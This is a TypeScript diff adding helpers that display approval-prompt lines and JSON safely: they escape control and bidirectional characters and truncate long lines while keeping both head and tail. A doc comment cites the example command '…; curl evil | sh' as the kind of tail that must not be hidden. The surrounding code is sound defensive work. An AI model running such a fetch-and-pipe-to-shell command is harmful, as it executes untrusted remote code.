@@ -25,3 +25,31 @@ function escapeOne(char: string): string {
   if (code < 0x80) return `\\x${code.toString(16).padStart(2, "0")}`;
   return `\\u${code.toString(16).padStart(4, "0")}`;
 }
+
+/**
+ * One line for a person to judge (a permission title, an approver's title, a progress line): controls as
+ * visible escapes, whitespace runs as one space, and when longer than `max` characters the head and the
+ * tail are both kept around an explicit marker — the end of a command (`…; curl evil | sh`) is never the part
+ * cut away.
+ */
+export function visibleLine(text: string, max: number): string {
+  const flat = Array.from(visibleText(text).replace(/\s+/g, " ").trim());
+  if (flat.length <= max) return flat.join("");
+  const marker = (cut: number) => ` …[${cut} characters cut]… `;
+  const keep = Math.max(2, max - marker(flat.length).length);
+  const tail = Math.floor(keep / 2);
+  const head = keep - tail;
+  return flat.slice(0, head).join("") + marker(flat.length - keep) + flat.slice(flat.length - tail).join("");
+}
+
+/**
+ * JSON whose text holds no character a terminal or a text view acts on: besides what JSON escapes itself,
+ * DEL, C1 controls, bidirectional controls and line separators are `\uHHHH` escapes. It parses to exactly
+ * the same value, so a program gets the exact arguments and a person reading the text sees them all.
+ */
+export function visibleJson(value: unknown): string {
+  return JSON.stringify(value).replace(
+    /[\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]/g,
+    (char) => `\\u${char.charCodeAt(0).toString(16).padStart(4, "0")}`,
+  );
+}
